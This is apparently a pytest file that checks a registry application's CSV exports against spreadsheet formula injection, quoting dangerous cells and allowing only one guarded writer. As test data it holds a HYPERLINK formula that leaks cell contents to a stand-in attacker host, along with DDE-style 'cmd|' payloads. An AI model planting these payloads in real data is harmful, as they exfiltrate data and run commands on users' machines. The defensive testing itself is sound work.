"""CSV formula injection: text a feed or a caller chose never reaches a spreadsheet as a formula.

The attack: a feed sends a record whose source_id is ``=HYPERLINK(...)``; a steward exports
the links and opens the CSV in a spreadsheet, which runs the cell. Every CSV the registry
writes (API routes, dashboard downloads, CLI files) goes through one writer that quotes such
cells; a structural check keeps any new CSV writer from bypassing it.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from registry.core.csvfile import FORMULA_START, csv_writer, safe_cell
from registry.imports.service import RejectedRow, write_rejects
from registry.overview.export import write_csv
from tests.factories import bearer, record
from tests.hostile.conftest import Hostile

PROJECT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
BATCHES = "/api/v1/programmes/SEL85/batches"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a number written as a number runs nothing


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_defused(text: str, planted: str) -> None:
    cells = _cells(text)
    assert "'" + planted in cells, f"{planted!r} is not in the CSV, quoted: {cells}"
    live = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert not live, f"cells a spreadsheet would run: {live}"


def test_links_export_defuses_a_formula_source_id(client: TestClient, hostile: Hostile) -> None:
    pushed = client.post(
        BATCHES,
        json={"batch_id": "b-formula", "records": [record(FORMULA)]},
        headers=bearer(hostile.feed),
    )
    assert pushed.status_code == 200, pushed.text
    export = client.get("/api/v1/links/export", headers=bearer(hostile.reader))
    assert export.status_code == 200, export.text
    _assert_defused(export.text, FORMULA)


def test_quality_csv_defuses_a_rejected_formula_source_id(
    client: TestClient, hostile: Hostile
) -> None:
    bad = record(FORMULA, sex="not a sex")
    pushed = client.post(
        BATCHES, json={"batch_id": "b-bad", "records": [bad]}, headers=bearer(hostile.feed)
    )
    assert pushed.status_code == 200, pushed.text
    report = client.get(
        "/api/v1/programmes/SEL85/quality",
        headers={**bearer(hostile.reader), "Accept": "text/csv"},
    )
    assert report.status_code == 200, report.text
    _assert_defused(report.text, FORMULA)


def test_audit_csv_defuses_a_formula_purpose(client: TestClient, hostile: Hostile) -> None:
    planted = "@SUM(1+1)*cmd|' /C calc'!A0"
    client.get("/api/v1/links/export", headers={**bearer(hostile.reader), "X-Purpose": planted})
    events = client.get(
        "/api/v1/audit/events", headers={**bearer(hostile.reader), "Accept": "text/csv"}
    )
    assert events.status_code == 200, events.text
    _assert_defused(events.text, planted)


def test_import_rejects_file_defuses_formulas(tmp_path: Path) -> None:
    target = tmp_path / "rejects.csv"
    write_rejects(target, [RejectedRow(3, FORMULA, "=col", "sex", "invalid", "-bad +value")])
    _assert_defused(target.read_text(encoding="utf-8"), FORMULA)


@pytest.mark.parametrize("planted", FORMULAS)
def test_the_writer_defuses_every_formula_start(planted: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow([planted, -1, 2.5, None, ["x", planted]])
    _assert_defused(out.getvalue(), planted)
    assert _cells(out.getvalue())[1:4] == ["-1", "2.5", ""]  # numbers stay numbers
    _assert_defused(write_csv([{"source_id": planted, "n": -1}]), planted)
    assert safe_cell(planted) == "'" + planted


def test_a_line_break_in_a_cell_cannot_start_a_row() -> None:
    planted = "harmless\r=HYPERLINK(1)"
    for text in (write_csv([{"source_id": planted}]), _written([planted, 1], "\n")):
        rows = list(csv.reader(io.StringIO(text)))
        assert planted in [cell for row in rows for cell in row], rows


def _written(row: list[object], lineterminator: str) -> str:
    out = io.StringIO()
    csv_writer(out, lineterminator=lineterminator).writerow(row)
    return out.getvalue()


def _csv_writers_outside_the_module() -> list[str]:
    found = []
    for path in sorted((*PROJECT.glob("registry/**/*.py"), *PROJECT.glob("api/**/*.py"))):
        if path == PROJECT / "registry" / "core" / "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.relative_to(PROJECT)}:{node.lineno}")
    return found


def test_every_csv_is_written_by_the_one_guarded_writer() -> None:
    assert _csv_writers_outside_the_module() == []
